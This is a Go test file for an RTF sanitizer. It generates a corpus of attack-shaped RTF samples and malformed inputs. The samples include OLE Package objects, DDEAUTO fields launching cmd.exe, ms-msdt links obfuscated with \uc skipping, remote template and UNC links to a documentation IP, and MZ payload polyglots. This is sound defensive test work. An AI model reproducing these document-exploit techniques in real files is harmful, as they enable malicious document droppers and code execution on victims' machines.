package rtf

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"flag"
	"fmt"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite the generated corpus and the golden files")

const corpusDir = "../../testdata/rtf"

// ole1 wraps native data in an OLE1 embedded-object header (MS-OLEDS 2.2.4): version
// 0x0501, format 2 (embedded), the class name, empty topic and item, then the data. This
// is what Word writes into \objdata.
func ole1(class string, native []byte) []byte {
	var b bytes.Buffer
	w := func(v uint32) { binary.Write(&b, binary.LittleEndian, v) }
	w(0x0501)
	w(2)
	w(uint32(len(class) + 1))
	b.WriteString(class + "\x00")
	w(0)
	w(0)
	w(uint32(len(native)))
	b.Write(native)
	return b.Bytes()
}

// hexLines renders data as Word does: lowercase hex in lines of 128 digits.
func hexLines(data []byte) string {
	h := hex.EncodeToString(data)
	var b strings.Builder
	for len(h) > 128 {
		b.WriteString(h[:128] + "\r\n")
		h = h[128:]
	}
	b.WriteString(h)
	return b.String()
}

func readOLE(t *testing.T, name string) []byte {
	b, err := os.ReadFile(filepath.Join("../../testdata/ole", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

const (
	docStart = `{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0\froman Times New Roman;}}` + "\r\n" + `\pard\plain\f0\fs24 `
	docEnd   = `\par}` + "\r\n"
	pict     = `{\pict\wmetafile8\picw1000\pich500\picwgoal567\pichgoal283 0100090000034a00000000002100000000000400000003010800050000000b0200000000050000000c021000100003000000000000}`
)

// generatedCorpus returns the hand-made RTF files: each object and field shape the
// attacks use, their obfuscated variants, and the malformed inputs that must be refused.
func generatedCorpus(t *testing.T) map[string]string {
	pkg := ole1("Package", readOLE(t, "gen-package.bin"))
	eq := ole1("Equation.3", readOLE(t, "gen-equation.bin"))
	link := ole1("OLE2Link", append(readOLE(t, "gen-package.bin"), "http://198.51.100.7/template.hta\x00"...))
	h := hexLines(pkg)
	return map[string]string{
		"gen-object-package.rtf": docStart + `Invoice attached: ` +
			`{\object\objemb\objw1000\objh500{\*\objclass Package}{\*\objdata ` + h + `}{\result ` + pict + `}}` +
			` see above.` + docEnd,
		"gen-object-equation.rtf": docStart + `Equation: ` +
			`{\object\objemb\objupdate{\*\objclass Equation.3}\objw380\objh260{\*\objdata ` + hexLines(eq) + `}{\result {\rtlch a+b}}}` + docEnd,
		"gen-object-autlink.rtf": docStart + `Linked: ` +
			`{\object\objautlink\objupdate\rsltpict\objw291\objh230{\*\objclass Word.Document.8}{\*\objdata ` + hexLines(link) + `}{\result ` + pict + `}}` + docEnd,
		"gen-object-ocx.rtf": docStart + `Control: {\object\objocx\objw100\objh100{\*\objclass Forms.CommandButton.1}{\*\objdata 0105000002000000}}` + docEnd,
		// Obfuscations seen in droppers: hex broken by spaces, tabs and junk, \objdata
		// without \*, an empty \object with its data in a sibling, binary \bin data, a
		// data store, and upper-case words.
		"gen-objdata-whitespace.rtf": docStart + `Text {\object\objemb{\*\objdata 01 05 00` + "\r\n\t" + `00 02 0 0 00 zz 0b 00}{\result kept result}} end` + docEnd,
		"gen-objdata-bare.rtf":       docStart + `Text {\objdata ` + h + `} end` + docEnd,
		"gen-objdata-bin.rtf":        docStart + `Text {\*\objdata \bin8 ` + "}{\\}\x00\x01{{" + `} end` + docEnd,
		"gen-object-uppercase.rtf":   docStart + `Text {\OBJECT\OBJEMB{\*\OBJDATA 0105}} end` + docEnd,
		"gen-datastore.rtf":          docStart + `Text end` + `{\*\datastore ` + h + `}` + docEnd,
		"gen-pict-objdata.rtf":       docStart + `Picture {\*\shppict{\pict\pngblip\picw10\pich10 89504e47{\*\objdata ` + h + `}}} end` + docEnd,
		"gen-escaped-text.rtf":       docStart + `Words that are text: \\object \\objdata \{\\objupdate\} DDEAUTO.` + docEnd,
		"gen-dde-field.rtf":          docStart + `Quarterly figures: {\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"}{\fldrslt {\b 1,234}}} done.` + docEnd,
		"gen-dde-split.rtf":          docStart + `Split: {\field\flddirty{\*\fldinst {\rtlch D}{D}{\'45AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"}}{\fldrslt {Result}}} done.` + docEnd,
		"gen-dde-nested-quote.rtf":   docStart + `Nested: {\field{\*\fldinst {\field{\*\fldinst QUOTE 68 68 69 65 85 84 79}{\fldrslt DDEAUTO}} cmd "/c calc"}{\fldrslt shown}} done.` + docEnd,
		"gen-dde-unicode.rtf":        docStart + `Unicode: {\field{\*\fldinst \uc1\u68?\u68?\u69?AUTO cmd "/c calc"}{\fldrslt safe}} done.` + docEnd,
		"gen-includepicture.rtf":     docStart + `Remote: {\field{\*\fldinst INCLUDEPICTURE "http://198.51.100.7/track.png" \\d}{\fldrslt }} done.` + docEnd,
		"gen-hyperlink.rtf":          docStart + `Link: {\field{\*\fldinst HYPERLINK "https://www.example.jp/"}{\fldrslt {\ul www.example.jp}}} and page {\field{\*\fldinst PAGE}{\fldrslt 1}}.` + docEnd,
		"gen-linked-picture.rtf":     docStart + `Logo: {\shp{\*\shpinst\shpleft0\shptop0\shpright2000\shpbottom1000{\sp{\sn shapeType}{\sv 75}}{\sp{\sn pibName}{\sv \\\\198.51.100.7\\share\\logo.png}}{\sp{\sn pibFlags}{\sv 74}}}} end.` + docEnd,
		// \ucN makes readers skip characters after each \uN: Word and LibreOffice read
		// "\uc6\u109 ailto:s-msdt:..." as ms-msdt:, "\uc7\u104 ttps://cp:" as hcp:.
		"gen-uc-skip-hyperlink.rtf": docStart + `{\field{\*\fldinst HYPERLINK "\uc6\u109 ailto:s-msdt:/id PCWDiagnostic /skip force"}{\fldrslt msdt}} ` +
			`{\field{\*\fldinst HYPERLINK "\uc7\u104 ttps://cp://198.51.100.7/x"}{\fldrslt hcp}} ` +
			// LibreOffice carries the count across {} (ms-msdt:) and into a child group.
			`{\field{\*\fldinst HYPERLINK "\uc6\u109 {}ailto:s-msdt:/id PCWDiagnostic"}{\fldrslt across}} ` +
			`{\field{\*\fldinst HYPERLINK "\uc6\u109 {ailto:}s-msdt:/id PCWDiagnostic"}{\fldrslt into}} ` +
			`{\field{\*\fldinst HYPERLINK "https://www.example.jp/\u12354\'82\'a0"}{\fldrslt kept}}` + docEnd,
		// Pictures linked through other shape properties and names spelled so that only
		// a reader that decodes them sees pibName.
		"gen-shape-links.rtf": docStart + `Fill: {\shp{\*\shpinst\shpleft0\shptop0\shpright2000\shpbottom1000{\sp{\sn shapeType}{\sv 1}}{\sp{\sn fillType}{\sv 3}}{\sp{\sn fillBlipName}{\sv \\\\198.51.100.7\\share\\fill.png}}{\sp{\sn fillBlipFlags}{\sv 10}}` +
			`{\sp{\sn lineFillBlipName}{\sv http://198.51.100.7/line.png}}{\sp{\sn pibPrintName}{\sv http://198.51.100.7/print.png}}` +
			`{\sp{\sn \u112?ibName}{\sv http://198.51.100.7/u.png}}{\sp{\sn shapeType}{\sn pibName}{\sv http://198.51.100.7/two.png}}{\sp{{\sn pibName}}{\sv http://198.51.100.7/nested.png}}` +
			`{\sp{\sn {\sn pibName}}{\sv http://198.51.100.7/inner.png}}{\sp{\sn pib{}Name}{\sv http://198.51.100.7/empty.png}}` +
			// A control character the output drops must not hide the head behind it.
			`{\sp{` + "\x00" + `\sn pibName}{\sv http://198.51.100.7/nul.png}}` +
			`{\sp{\sn wzName}{\sv Box 1}}}} end.` + docEnd,
		// A damaged \sp (here \wp, an unknown word) leaves a name and value in no property.
		"gen-shape-orphan-property.rtf": docStart + `Logo: {\shp{\*\shpinst\shpleft0\shptop0\shpright2000\shpbottom1000{\sp{\sn shapeType}{\sv 75}}{\wp{\sn pibName}{\sv http://198.51.100.7/logo.png}}}} end.` + docEnd,
		// Word splits field arguments at white space that control words stand for: every
		// piece a reader could take as the target is judged.
		"gen-hyperlink-space-words.rtf": docStart + `{\field{\*\fldinst HYPERLINK https://www.example.jp/\tab file://198.51.100.7/share/x.exe}{\fldrslt tab}} ` +
			`{\field{\*\fldinst HYPERLINK https://www.example.jp/\emspace \\\\198.51.100.7\\share\\x.exe}{\fldrslt emspace}}` + docEnd,
		// Two instructions: LibreOffice links to the last, a judge of the joined text sees PAGE.
		"gen-field-two-instructions.rtf": docStart + `{\field{\*\fldinst PAGE }{\*\fldinst HYPERLINK "ms-msdt:/id PCWDiagnostic"}{\fldrslt two}}` + docEnd,
		"gen-template.rtf":               `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\template http://198.51.100.7/remote.dotm}\pard Template injection.\par}` + "\r\n",
		"gen-mailmerge.rtf":              `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\mailmerge\mmmaintypeform{\*\mmconnectstr DSN=x;DBQ=\\\\198.51.100.7\\share\\x.mdb}{\*\mmquery SELECT * FROM x}}\pard Merge.\par}` + "\r\n",
		"gen-trailing-data.rtf":          docStart + `Body.` + docEnd + "MZ\x90\x00\x03 payload after the document",
		"gen-control-chars.rtf":          docStart + "Text with a NUL\x00 and a bell\x07 inside." + docEnd,
		"gen-unicode.rtf":                docStart + `\uc1 \u35531?\u27714?\u26360? {\f0\'93\'fa\'96\'7b} text` + docEnd,

		// Tolerated where Word and LibreOffice open the file and its meaning is clear.
		"gen-unclosed-groups.rtf": docStart + `{\b never closed` + docEnd,
		"gen-stray-brace.rtf":     docStart + `Closed twice.` + docEnd + "}\r\n",
		"gen-trailing-nul.rtf":    docStart + `Padded.\par}` + "\x00",
		// Ignorable destinations: unknown ones and known active ones are dropped.
		"gen-unknown-destination.rtf": docStart + `Text {\*\unknownthing payload}{\*\ffentrymcr AutoOpen}{\*\themedata 504b0304}{\*\hlsrc \\\\198.51.100.7\\share} end` + docEnd,
		// Control words: one no reader's table lists goes, the text around it stays; a
		// listed word in another case stays.
		"gen-unknown-words.rtf": docStart + `Before \xyzzyhook42 middle {\futurefeature\b inside} \B after \ZZtop\par tail\ with\!symbols\~kept` + docEnd,
		// Pictures: PNG and JPEG are decoded and encoded again, the rest goes.
		"gen-picture-png.rtf":       docStart + `Logo: {\pict\pngblip\picw8\pich8\picwgoal240\pichgoal240 ` + hexLines(pngBytes()) + `} end.` + docEnd,
		"gen-picture-polyglot.rtf":  docStart + `Logo: {\*\shppict{\pict\pngblip\picw8\pich8 ` + hexLines(append(pngBytes(), "MZ\x90\x00attacker payload after IEND"...)) + `}} end.` + docEnd,
		"gen-picture-not-image.rtf": docStart + `Logo: {\pict\pngblip\picw8\pich8 ` + hexLines([]byte("MZ\x90\x00 not a picture at all")) + `} end.` + docEnd,
		"gen-picture-bin.rtf":       docStart + `Photo: {\pict\jpegblip\picw8\pich8\bin` + fmt.Sprint(len(jpegBytes())) + ` ` + string(jpegBytes()) + `} end.` + docEnd,
		"gen-picture-wmf.rtf":       docStart + `Chart: ` + pict + ` end.` + docEnd,
		// HYPERLINK targets after switches, where Word and LibreOffice read them.
		"gen-hyperlink-switches.rtf": docStart + `{\field{\*\fldinst HYPERLINK \\l "top" "file://198.51.100.7/share/x.exe"}{\fldrslt after l}} ` +
			`{\field{\*\fldinst HYPERLINK \\o "tip" "\\\\198.51.100.7\\share\\x.exe"}{\fldrslt after o}} ` +
			`{\field{\*\fldinst HYPERLINK "https://www.example.jp/" \\l "top"}{\fldrslt kept}}` + docEnd,
		// Document properties: only the title and subject stay with strip; the link base
		// goes in every mode.
		"gen-info.rtf":             `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\info{\title 報告書}{\subject Budget}{\author Yamada Taro}{\operator Editor}{\company Sekisho City}{\creatim\yr2026\mo1\dy2}{\hlinkbase \\\\198.51.100.7\\share}}{\*\generator Producer 1.0;}{\*\userprops {\propname Secret}\proptype30{\staticval 1}}\pard Body.\par}` + "\r\n",
		"bad-unbalanced-close.rtf": docStart + `closed twice}}` + docEnd + `{\object\objemb{\*\objdata 0105}}}`,
		"bad-overlong-word.rtf":    docStart + `\objdata` + strings.Repeat("a", 40) + ` x` + docEnd,
		"bad-long-param.rtf":       docStart + `\fs123456789012 x` + docEnd,
		"bad-bin-overflow.rtf":     docStart + `{\*\shppict\bin99999999 short}` + docEnd,
		"bad-bin-negative.rtf":     docStart + `{\bin-5 x}` + docEnd,
		"bad-midgroup-objdata.rtf": docStart + `{\b bold text \objdata 0105000002000000}` + docEnd,
		"bad-midgroup-field.rtf":   docStart + `{\b bold \field{\*\fldinst DDEAUTO cmd}}` + docEnd,
		// A dropped group in front made these the head of their group when written back.
		"bad-midgroup-hlinkbase.rtf": docStart + `{\info{\title T}}{{\*\x}\hlinkbase http://198.51.100.7/}{\field{\*\fldinst HYPERLINK "a.exe"}{\fldrslt a}}` + docEnd,
		"bad-midgroup-pict.rtf":      docStart + `{{\*\x}\pict\pngblip ` + hexLines([]byte("\x89PNG not re-encoded")) + `}` + docEnd,
		"bad-midgroup-sn.rtf":        docStart + `{\shp{\*\shpinst{\sp{{\*\x}\sn pibName}{\sv http://198.51.100.7/sep.png}}}}` + docEnd,
		"bad-header.rtf":             `{\rtx1\ansi body\par}`,
		"bad-hex-escape.rtf":         docStart + `\'zz` + docEnd,
		"bad-object-in-header.rtf":   `{\rtf1\object\objemb{\*\objdata 0105}}`,
		"bad-deep.rtf":               docStart + strings.Repeat("{", 600) + strings.Repeat("}", 600) + docEnd,
	}
}

// TestGeneratedCorpus keeps testdata/rtf/gen-* and bad-* equal to generatedCorpus; -update
// rewrites them.
func TestGeneratedCorpus(t *testing.T) {
	for name, content := range generatedCorpus(t) {
		t.Run(name, func(t *testing.T) {
			path := filepath.Join(corpusDir, name)
			if *update {
				if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			got, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if string(got) != content {
				t.Errorf("%s differs from the generator (run go test -run TestGeneratedCorpus -update)", name)
			}
		})
	}
}

// pictureImage is an 8x8 gradient, the picture of the generated picture cases.
func pictureImage() image.Image {
	img := image.NewRGBA(image.Rect(0, 0, 8, 8))
	for y := range 8 {
		for x := range 8 {
			img.Set(x, y, color.RGBA{uint8(x * 32), uint8(y * 32), 128, 255})
		}
	}
	return img
}

func pngBytes() []byte {
	var b bytes.Buffer
	png.Encode(&b, pictureImage())
	return b.Bytes()
}

func jpegBytes() []byte {
	var b bytes.Buffer
	jpeg.Encode(&b, pictureImage(), &jpeg.Options{Quality: 90})
	return b.Bytes()
}
